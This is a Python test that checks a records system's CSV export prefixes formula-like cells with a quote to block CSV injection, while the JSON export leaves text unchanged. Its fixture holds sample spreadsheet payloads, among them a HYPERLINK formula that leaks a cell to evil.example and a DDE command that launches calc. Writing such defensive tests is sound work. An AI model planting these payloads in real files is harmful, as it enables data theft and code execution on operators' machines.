"""Issue 13, medium: `export --format csv` never writes a cell a spreadsheet would run.

A practitioner's free text (or an override reason, a recipient's name) that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return would run as a formula when an operator
opens the export in a spreadsheet (CSV injection). Such cells get a single quote in
front; the JSON export keeps the text exactly as written.
"""

from __future__ import annotations

import csv
import io
import json

from flows.records import export
from storage import repository as repo
from tests.storage.test_records import fields

HOSTILE = {
    "reasons": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "shared_what": "+cmd|' /C calc'!A0",
    "shared_with": "-2+3",
    "method": "@SUM(1,1)",
    "review_point": "\t=1+1",
    "case_ref": "\r=1+1",
    "override_reason": "plain words, kept as they are",
}


async def test_csv_cells_that_would_be_formulas_are_quoted_and_json_is_untouched(db):
    async with db() as session, session.begin():
        await repo.append_record(session=session, fields={**fields(1), **HOSTILE})
    [row] = list(csv.DictReader(io.StringIO(await export(db=db, fmt="csv"))))
    for name, value in HOSTILE.items():
        expected = value if name == "override_reason" else "'" + value
        assert row[name] == expected, name
    for name, cell in row.items():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), name
    assert json.loads(row["risks"]) == {"child": False}  # lists and objects are still JSON
    [record] = json.loads(await export(db=db, fmt="json"))
    assert {name: record[name] for name in HOSTILE} == HOSTILE
